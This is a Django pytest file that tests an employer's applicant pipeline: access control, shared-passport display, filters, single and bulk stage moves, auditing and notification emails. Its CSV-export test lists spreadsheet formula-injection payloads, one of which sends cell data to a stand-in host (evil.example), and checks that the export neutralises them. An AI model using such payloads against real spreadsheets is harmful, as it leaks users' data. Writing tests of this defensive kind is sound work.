# ruff: noqa: F811  (pytest fixtures imported from tests/jobs/pipeline_fixtures.py)
"""The employer's pipeline: who sees a vacancy's applicants, what is shown of each (the live
register status always; the passport only while it is shared), the filters, and the moves:
one at a time, or many "not progressed" at once, all or none. Each move is audited and told
to the applicant."""

import csv
import io
from datetime import timedelta

import pytest
from django.core import mail
from django.core.exceptions import PermissionDenied
from django.http import Http404
from django.utils import timezone

from core.audit import AuditEvent
from employers.models import EmployerVerification
from employers.services.verification import EmployerNotVerified
from jobs.models import Application, ApplicationEvent
from jobs.selectors import pipeline as selectors
from jobs.services import pipeline as services
from register.models import IdentityCheck
from tests.factories import InterviewSlotFactory, JobApplicationFactory
from tests.jobs.pipeline_fixtures import (  # noqa: F401  (fixtures)
    other_employer,
    pat_application,
    question,
    sam_application,
    vacancy,
    wendy_application,
)

pytestmark = pytest.mark.django_db

Stage = Application.Stage


def _pipeline(user, vacancy, **filters):
    return selectors.pipeline(
        user=user,
        vacancy=vacancy,
        filters=selectors.PipelineFilters(**filters),
        today=timezone.localdate(),
    )


def _names(pipeline):
    return [row.name for row in pipeline.rows]


# Who sees the applicants ------------------------------------------------------------------------


def test_a_member_of_the_employer_sees_the_vacancys_applicants_newest_first(
    employer_member, vacancy, wendy_application, pat_application, sam_application
):
    pipeline = _pipeline(employer_member, vacancy)

    assert _names(pipeline) == ["Sam Suspended", "Pat Newcomer", "Wendy Worker"]
    assert pipeline.total == 3
    assert ("received", "Received", 3) in pipeline.counts


@pytest.mark.parametrize("who", ["other_employer", "registrar", "worker", "outsider"])
def test_nobody_outside_the_employer_finds_the_vacancys_applicants(
    request, who, vacancy, wendy_application
):
    user = request.getfixturevalue(who)

    with pytest.raises(Http404):
        selectors.vacancy_for_pipeline(user=user, reference=vacancy.reference)
    with pytest.raises(Http404):
        _pipeline(user, vacancy)
    with pytest.raises(Http404):
        selectors.applicant_get(user=user, vacancy=vacancy, reference=wendy_application.reference)


def test_an_employer_no_longer_verified_sees_no_applicant(employer, vacancy, wendy_application):
    EmployerVerification.objects.filter(organisation=vacancy.organisation).update(
        withdrawn_at=timezone.now()
    )

    with pytest.raises(EmployerNotVerified):
        _pipeline(employer, vacancy)


# What is shown of each --------------------------------------------------------------------------


def test_each_applicant_shows_their_live_status_and_training_while_shared(
    employer, vacancy, wendy_application, pat_application, sam_application
):
    rows = {row.name: row.verified for row in _pipeline(employer, vacancy).rows}

    wendy, pat, sam = rows["Wendy Worker"], rows["Pat Newcomer"], rows["Sam Suspended"]
    assert wendy.status_label == "Registered"
    assert wendy.share == "live"
    assert wendy.training_summary == "0 valid, 1 due for renewal"
    assert wendy.training_attention
    assert wendy.identity_checks is None
    assert pat.status_label == "Not verified: not on the register"
    assert pat.training is None
    assert sam.status_label == "Suspended"
    assert not sam.may_practise


def test_a_revoked_share_shows_the_status_but_no_passport(employer, vacancy, wendy_application):
    wendy_application.share.revoked_at = timezone.now()
    wendy_application.share.save()

    (row,) = _pipeline(employer, vacancy).rows

    assert row.verified.status_label == "Registered"
    assert row.verified.training is None
    assert row.verified.share_text == "The applicant stopped sharing their passport"


def test_a_share_that_ended_says_when(employer, vacancy, wendy_application):
    ended = timezone.now() - timedelta(days=1)
    wendy_application.share.expires_at = ended
    wendy_application.share.save()

    (row,) = _pipeline(employer, vacancy).rows

    assert row.verified.training is None
    assert row.verified.share_text.startswith("Sharing ended on ")


def test_identity_checks_are_shown_only_when_the_worker_shared_them(
    employer, registrar, vacancy, wendy_application
):
    IdentityCheck.objects.create(
        application=wendy_application.entry.application,
        check_type=IdentityCheck.Type.PHOTO_ID,
        outcome=IdentityCheck.Outcome.PASSED,
        checked_by=registrar,
        document_type=IdentityCheck.DocumentType.PASSPORT,
        document_number="123456789",
        evidence_reference="Seen in person",
    )
    assert _pipeline(employer, vacancy).rows[0].verified.identity_checks is None

    Application.objects.filter(pk=wendy_application.pk).update(shares_identity_checks=True)
    (check,) = _pipeline(employer, vacancy).rows[0].verified.identity_checks

    assert (check.check_type, check.outcome) == ("Photo identity document", "Passed")
    assert not hasattr(check, "document_number")


def test_the_pipeline_takes_a_few_queries_whatever_the_number_of_applicants(
    django_assert_max_num_queries, employer, vacancy, wendy_application, sam_application
):
    for _ in range(10):
        JobApplicationFactory(vacancy=vacancy)

    with django_assert_max_num_queries(12):
        pipeline = _pipeline(employer, vacancy)
    assert len(pipeline.rows) == 12


# Filters and sorting ----------------------------------------------------------------------------


def test_the_filters_choose_by_stage_register_answer_and_training(
    employer, vacancy, question, wendy_application, pat_application, sam_application
):
    Application.objects.filter(pk=pat_application.pk).update(stage=Stage.SHORTLISTED)

    assert _names(_pipeline(employer, vacancy, stage="shortlisted")) == ["Pat Newcomer"]
    assert _names(_pipeline(employer, vacancy, verified="no")) == ["Pat Newcomer"]
    assert _names(_pipeline(employer, vacancy, verified="yes")) == [
        "Sam Suspended",
        "Wendy Worker",
    ]
    assert _names(_pipeline(employer, vacancy, question=question.pk, answer="yes")) == [
        "Wendy Worker"
    ]
    assert _names(_pipeline(employer, vacancy, training_attention=True)) == ["Wendy Worker"]
    assert _names(_pipeline(employer, vacancy, sort="name")) == [
        "Pat Newcomer",
        "Sam Suspended",
        "Wendy Worker",
    ]
    assert _names(_pipeline(employer, vacancy, sort="stage"))[0] != "Pat Newcomer"
    # Counts are of every applicant, whatever the filters.
    counts = {
        stage: count for stage, _, count in _pipeline(employer, vacancy, verified="no").counts
    }
    assert (counts["received"], counts["shortlisted"]) == (2, 1)


# Opening an applicant ---------------------------------------------------------------------------


def test_opening_a_shared_passport_is_audited(employer, vacancy, wendy_application):
    page = selectors.applicant_page(
        user=employer,
        vacancy=vacancy,
        reference=wendy_application.reference,
        today=timezone.localdate(),
    )

    assert page.verified.share == "live"
    event = AuditEvent.objects.get(action="jobs.application.passport_opened")
    assert (event.actor_id, event.target_id) == (employer.pk, str(wendy_application.pk))


def test_opening_an_applicant_without_a_live_share_audits_nothing(
    employer, vacancy, pat_application
):
    selectors.applicant_page(
        user=employer,
        vacancy=vacancy,
        reference=pat_application.reference,
        today=timezone.localdate(),
    )

    assert not AuditEvent.objects.filter(action="jobs.application.passport_opened").exists()


# One move at a time -----------------------------------------------------------------------------


def test_a_member_shortlists_an_applicant_who_is_told(
    django_capture_on_commit_callbacks, employer_member, wendy_application
):
    with django_capture_on_commit_callbacks(execute=True):
        services.applicant_move(
            application=wendy_application, to=Stage.SHORTLISTED, user=employer_member
        )

    wendy_application.refresh_from_db()
    assert wendy_application.stage == Stage.SHORTLISTED
    event = ApplicationEvent.objects.get(application=wendy_application)
    assert (event.from_stage, event.stage, event.actor) == (
        "received",
        "shortlisted",
        employer_member,
    )
    assert AuditEvent.objects.filter(action="jobs.application.shortlisted").count() == 1
    assert [message.to for message in mail.outbox] == [["worker@example.org"]]


def test_another_employer_cannot_move_an_applicant(other_employer, wendy_application):
    with pytest.raises(PermissionDenied):
        services.applicant_move(
            application=wendy_application, to=Stage.SHORTLISTED, user=other_employer
        )
    wendy_application.refresh_from_db()
    assert wendy_application.stage == Stage.RECEIVED


def test_not_progressing_needs_a_message(employer, wendy_application):
    with pytest.raises(services.PipelineError, match="Write a message"):
        services.applicant_move(
            application=wendy_application, to=Stage.NOT_PROGRESSED, user=employer, message="  "
        )
    assert not AuditEvent.objects.filter(action__startswith="jobs.application.").exists()


def test_the_pipeline_never_moves_to_checks_or_hired(employer, wendy_application):
    Application.objects.filter(pk=wendy_application.pk).update(stage=Stage.OFFER)
    wendy_application.refresh_from_db()

    with pytest.raises(services.PipelineError, match="Choose what happens next"):
        services.applicant_move(application=wendy_application, to=Stage.CHECKS, user=employer)


def test_a_finished_application_cannot_be_moved(employer, wendy_application):
    Application.objects.filter(pk=wendy_application.pk).update(stage=Stage.NOT_PROGRESSED)
    wendy_application.refresh_from_db()

    with pytest.raises(services.ApplicationError, match="finished: it was not progressed"):
        services.applicant_move(application=wendy_application, to=Stage.OFFER, user=employer)


def test_an_invitation_to_interview_needs_a_free_time_to_come(employer, vacancy, wendy_application):
    InterviewSlotFactory(vacancy=vacancy, starts_at=timezone.now() - timedelta(hours=1))

    with pytest.raises(services.PipelineError, match="Add interview times first"):
        services.applicant_move(application=wendy_application, to=Stage.INTERVIEW, user=employer)


def test_an_invitation_to_interview_emails_the_link_to_book(
    django_capture_on_commit_callbacks, employer, vacancy, wendy_application
):
    InterviewSlotFactory(vacancy=vacancy)

    with django_capture_on_commit_callbacks(execute=True):
        services.applicant_move(application=wendy_application, to=Stage.INTERVIEW, user=employer)

    (email,) = mail.outbox
    assert f"/my-applications/{wendy_application.reference}/interview/" in email.body


def test_not_progressing_gives_back_an_interview_still_to_come(
    employer, vacancy, wendy_application
):
    slot = InterviewSlotFactory(vacancy=vacancy, booked_by=wendy_application)
    Application.objects.filter(pk=wendy_application.pk).update(stage=Stage.INTERVIEW)
    wendy_application.refresh_from_db()

    services.applicant_move(
        application=wendy_application,
        to=Stage.NOT_PROGRESSED,
        user=employer,
        message="We chose someone with more experience of nights.",
    )

    slot.refresh_from_db()
    assert slot.is_free


# Many "not progressed" at once ------------------------------------------------------------------


def test_bulk_not_progressed_moves_every_ticked_applicant_with_the_message(
    django_capture_on_commit_callbacks,
    employer,
    vacancy,
    wendy_application,
    pat_application,
    sam_application,
):
    with django_capture_on_commit_callbacks(execute=True):
        moved = services.applicants_not_progress(
            vacancy=vacancy,
            references=[pat_application.reference, sam_application.reference],
            user=employer,
            message="Thank you for applying. We have filled the post.",
        )

    assert {application.pk for application in moved} == {pat_application.pk, sam_application.pk}
    stages = dict(Application.objects.values_list("pk", "stage"))
    assert stages == {
        wendy_application.pk: "received",
        pat_application.pk: "not_progressed",
        sam_application.pk: "not_progressed",
    }
    assert AuditEvent.objects.filter(action="jobs.application.not_progressed").count() == 2
    assert sorted(message.to[0] for message in mail.outbox) == [
        "pat@example.org",
        "sam@example.org",
    ]
    assert all("We have filled the post." in message.body for message in mail.outbox)


def test_bulk_not_progressed_moves_nobody_if_one_cannot_be_moved_and_says_which(
    django_capture_on_commit_callbacks, employer, vacancy, wendy_application, pat_application
):
    Application.objects.filter(pk=wendy_application.pk).update(stage=Stage.HIRED)

    with (
        django_capture_on_commit_callbacks(execute=True),
        pytest.raises(services.BulkMoveRefused) as refused,
    ):
        services.applicants_not_progress(
            vacancy=vacancy,
            references=[wendy_application.reference, pat_application.reference],
            user=employer,
            message="Thank you for applying.",
        )

    assert refused.value.problems == [
        f"Wendy Worker ({wendy_application.reference}): this application is finished: the "
        "applicant was hired"
    ]
    pat_application.refresh_from_db()
    assert pat_application.stage == Stage.RECEIVED
    assert not mail.outbox
    assert not AuditEvent.objects.filter(action="jobs.application.not_progressed").exists()


def test_bulk_not_progressed_refuses_another_vacancys_application(
    employer, employer_organisation, vacancy, pat_application
):
    elsewhere = JobApplicationFactory(vacancy__organisation=employer_organisation)

    with pytest.raises(services.BulkMoveRefused) as refused:
        services.applicants_not_progress(
            vacancy=vacancy,
            references=[pat_application.reference, elsewhere.reference],
            user=employer,
            message="Thank you for applying.",
        )

    assert refused.value.problems == [f"{elsewhere.reference}: not an application for this vacancy"]
    assert Application.objects.filter(stage=Stage.NOT_PROGRESSED).count() == 0


def test_bulk_not_progressed_needs_a_message_and_someone_ticked(employer, vacancy, pat_application):
    with pytest.raises(services.PipelineError, match="Write a message"):
        services.applicants_not_progress(
            vacancy=vacancy, references=[pat_application.reference], user=employer, message=""
        )
    with pytest.raises(services.PipelineError, match="Tick at least one"):
        services.applicants_not_progress(
            vacancy=vacancy, references=[], user=employer, message="Thank you."
        )


def test_another_employer_cannot_not_progress_in_bulk(other_employer, vacancy, pat_application):
    with pytest.raises(PermissionDenied):
        services.applicants_not_progress(
            vacancy=vacancy,
            references=[pat_application.reference],
            user=other_employer,
            message="Thank you.",
        )


# The export -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "statement",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+44 7700 900123 call me",
        "-1+1",
        "@SUM(1+1)",
        "\tindented",
        "\rcarriage return",
    ],
)
def test_the_export_is_safe_to_open_in_a_spreadsheet_and_audited(
    employer, vacancy, pat_application, statement
):
    Application.objects.filter(pk=pat_application.pk).update(statement=statement)

    text = services.pipeline_export(user=employer, pipeline=_pipeline(employer, vacancy))

    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    header, row = rows[0], rows[1]
    cell = row[header.index("Statement")]
    assert cell == "'" + statement
    assert row[header.index("Register status")] == "Not verified: not on the register"
    assert row[header.index("Do you have a driving licence and a car for work?")] == "No"
    event = AuditEvent.objects.get(action="jobs.pipeline.exported")
    assert (event.actor_id, event.target_id, event.data) == (
        employer.pk,
        str(vacancy.pk),
        {"applications": 1},
    )


def test_another_employer_cannot_export(employer, other_employer, vacancy, pat_application):
    pipeline = _pipeline(employer, vacancy)

    with pytest.raises(PermissionDenied):
        services.pipeline_export(user=other_employer, pipeline=pipeline)
